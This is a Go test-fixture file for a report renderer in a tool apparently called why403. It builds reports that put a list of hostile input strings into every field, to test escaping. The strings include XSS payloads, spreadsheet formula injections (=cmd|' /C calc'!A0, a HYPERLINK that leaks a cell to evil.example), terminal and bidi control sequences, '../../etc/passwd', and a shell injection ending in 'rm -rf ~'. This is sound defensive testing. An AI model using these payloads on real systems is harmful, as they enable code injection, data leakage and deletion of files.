package report

import (
	"fmt"
	"time"

	"github.com/why403/why403/logs"
)

// nasty holds payloads against each medium: markup and script, terminal
// escapes, bidi and format controls, spreadsheet formulas, Markdown, broken
// UTF-8, line breaks.
var nasty = []string{
	`<script>window.pwned=1</script>`,
	`</script><script>window.pwned=1</script>`,
	`</style><script>window.pwned=1</script>`,
	`"><img src=x onerror=window.pwned=1>`,
	`'><svg onload=window.pwned=1>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>">`,
	`<a href="javascript:window.pwned=1">x</a>`,
	`javascript:window.pwned=1`,
	`{{.}}{{print 1}}${window.pwned=1}`,
	`<!--<script>`,
	`]]><script>window.pwned=1</script>`,
	`\u003cscript\u003ewindow.pwned=1\u003c/script\u003e`,
	`" onfocus=window.pwned=1 autofocus="`,
	`<style>body{display:none}</style>`,
	`<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">`,
	"\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[2J",
	"\u009b31m C1, \x90q \x7f DEL",
	"\u202egnp.exe\u202c \u2066isolate\u2069 \u200bzero \ufeffbom \u00adsoft",
	"a\nb\r\nc\rd\u2028e\u2029f\x0bg\x0ch\u0085i",
	"\x00\x01\x02 NUL",
	"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "|calc", "%0A=1+1",
	`=HYPERLINK("http://evil.example/?"&A1,"x")`,
	"[x](javascript:alert(1)) ![i](http://evil.example/i.png) <http://evil.example>",
	"| a | b |\n|---|---|\n| c |", "```\nfence\n```", "`tick``two```three", "# heading\n- item\n1. one\n> quote",
	"**bold** _it_ ~~del~~ $x$ http://evil.example www.evil.example me@evil.example @team #1",
	"\xff\xfe\xc0\xaf broken", "\xed\xa0\x80 surrogate", "e\u0301 not NFC",
	" leading", "trailing ", "two  spaces", `quote" back\slash`, "", ".", "..", "/", "//", "a//b", "%00", "../../etc/passwd",
	"x;=1+1", "x; @SUM(1)", "x;\"=cmd|' /C calc'!A0", "x;-2+3", "x;＝1+1", "a;b; - c",
	"Www.evil.example wWw.evil.example", "owner/repo#1 #2 GH-3 @a @b/c \\@d \\#4",
	"fill\u3164er \uffa0 \u115f \u034f vs\ufe0f \U000e0100 tag\U000e0041 braille\u2800 \u061c \u200e",
	"$(touch /tmp/x); `id`; rm -rf ~ && echo 'q'",
	"\U0001F469\u200d\U0001F469\u200d\U0001F467 family", "العربية עברית ไทย 中文 한국어",
}

// allBytes is every byte once.
var allBytes = func() string {
	b := make([]byte, 256)
	for i := range b {
		b[i] = byte(i)
	}
	return string(b)
}()

// nastyReport has every payload in every place that a log or a setting can
// fill.
func nastyReport() *Report {
	when := at("2026-11-23 08:00:00")
	r := &Report{Summary: Summary{Forbidden: 10, CloudFront: 10, Requests: 100, Statuses: map[string]int{"new": 1}},
		Run: Run{Started: when, Finished: when, Version: "v1"}, APICalls: map[string]int64{"s3:GetBucketPolicy": 1}}
	r.Inputs = &logs.Inputs{ByFormat: map[string]*logs.FormatCount{}}
	var keys SliceKeys
	var paths SlicePaths
	for i, s := range append(nasty, allBytes) {
		id := "cause-" + s
		k := &FailingKey{Distribution: s, Bucket: s, Key: s, KeyEncoding: "utf-8", Access: "oac", URIs: []string{s}, Requests: Requests{CloudFront: int64(1000 - i)},
			FirstSeen: when, LastSeen: when, Status: []string{"new", "still", "fixed", "quiet"}[i%8/2], Verdict: id,
			Causes: []Cause{{ID: id, Certainty: s, Summary: s,
				Evidence: []Evidence{{s, s, s}, {"s3:GetBucketPolicy", "Statement[0]", s}},
				Remedies: []Remedy{{Title: s, Commands: []string{s, s}, Opens: s, Document: s, Diff: "+" + s, CloudFormation: s, Terraform: s}}},
				{ID: "also-" + s, Certainty: s, Summary: s}},
			RuledOut: []string{s}, Unknown: []Unknown{{s, []string{s}}}, Resolution: []string{s}, Rewrite: s, Plan: []string{s, s},
			Samples: []Sample{{CloudFront: &Line{s, when, []LineItem{{s, s}}}, S3: &Line{s, when, []LineItem{{s, s}}}}},
			Hours:   []HourCount{{when.Add(time.Duration(i) * time.Hour), 1}},
		}
		keys = append(keys, k)
		paths = append(paths, &EdgeFailure{Distribution: s, URI: s, Requests: 1, FirstSeen: when, LastSeen: when, Status: "new", Verdict: id,
			Causes: k.Causes, Unknown: k.Unknown, Samples: k.Samples})
		r.Summary.Causes = append(r.Summary.Causes, CauseCount{id, s, s, 1, 1, 1})
		r.Summary.Patterns = append(r.Summary.Patterns, Pattern{s, s, 1, 1})
		r.Summary.Noise.Examples = append(r.Summary.Noise.Examples, s)
		r.Notes = append(r.Notes, s)
		r.Run.Incomplete = append(r.Run.Incomplete, s)
		r.Inputs.RejectedSamples = append(r.Inputs.RejectedSamples, logs.Rejection{Object: s, Line: 1, Reason: s})
		r.Inputs.Unreadable = append(r.Inputs.Unreadable, logs.Unreadable{Object: s, Reason: s})
		r.Inputs.ByFormat[s] = &logs.FormatCount{Lines: 1}
		r.Documents = append(r.Documents, Document{"s3:GetBucketPolicy", s, fmt.Sprintf(`{"Statement":[{"Sid":%q}]}`, s)}, Document{s, s, s})
		r.Trend = append(r.Trend, Day{Day: s, CloudFront: 1})
	}
	r.Summary.Noise.Requests = 1
	r.FailingKeys, r.DirectFailures, r.EdgeFailures = keys, keys[:3], paths
	return r
}

// bigReport has n failing keys of many causes.
func bigReport(n int) *Report {
	r := sampleReport()
	base := []*FailingKey(r.FailingKeys.(SliceKeys))
	var keys SliceKeys
	for i := range n {
		k := *base[i%len(base)]
		k.Key = fmt.Sprintf("img/%04d/%s", i, k.Key)
		k.Requests.CloudFront = int64(n - i)
		keys = append(keys, &k)
	}
	r.FailingKeys = keys
	return r
}
